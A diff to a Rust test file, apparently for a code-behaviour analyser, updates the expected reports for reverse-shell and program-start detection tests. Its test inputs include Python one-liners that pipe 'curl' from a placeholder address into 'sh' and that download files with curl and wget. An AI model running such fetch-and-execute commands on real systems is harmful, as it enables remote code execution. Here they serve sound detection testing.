@@ -45,7 +45,7 @@ fn reverse_shells() {
             &[
                 "connect#1 Tls 192.0.2.1:443",
                 "evaluate shell: {received}",
-                "send#1 {output of sh}{output of sh} (output)",
+                "send#1 {output of shell} (output)",
             ],
         ),
         (
@@ -53,7 +53,7 @@ fn reverse_shells() {
             &[
                 "connect#1 Tcp 192.0.2.7:5000",
                 "evaluate shell: {received}",
-                "send#1 {output of sh} (output)",
+                "send#1 {output of shell} (output)",
             ],
         ),
         (
@@ -83,7 +83,7 @@ fn reverse_shells() {
             &[
                 "connect#1 Tcp 192.0.2.3:99",
                 "evaluate shell: {received}",
-                "send#1 {output of sh}",
+                "send#1 {output of shell}",
             ],
         ),
         (
@@ -103,7 +103,7 @@ fn reverse_shells() {
             &[
                 "listen#1 Tcp 0.0.0.0:9999",
                 "evaluate shell: {received}",
-                "send#1 {output of sh} (output)",
+                "send#1 {output of shell} (output)",
             ],
         ),
         (
@@ -420,15 +420,15 @@ fn programs_started() {
         ),
         (
             "import os\nos.system('curl %s | sh' % 'http://192.0.2.1/x')",
-            &["fetch http://192.0.2.1/x"],
+            &["evaluate shell: curl http://192.0.2.1/x | sh"],
         ),
         (
             "import os\nu='http://192.0.2.1/x'\nos.system(f'curl {u!s} -o /tmp/x')",
-            &["fetch http://192.0.2.1/x to /tmp/x"],
+            &["evaluate shell: curl http://192.0.2.1/x -o /tmp/x"],
         ),
         (
             "import os\nos.system('wget {0}/{name}'.format('http://192.0.2.1', name='y'))",
-            &["fetch http://192.0.2.1/y"],
+            &["evaluate shell: wget http://192.0.2.1/y"],
         ),
     ]);
 }
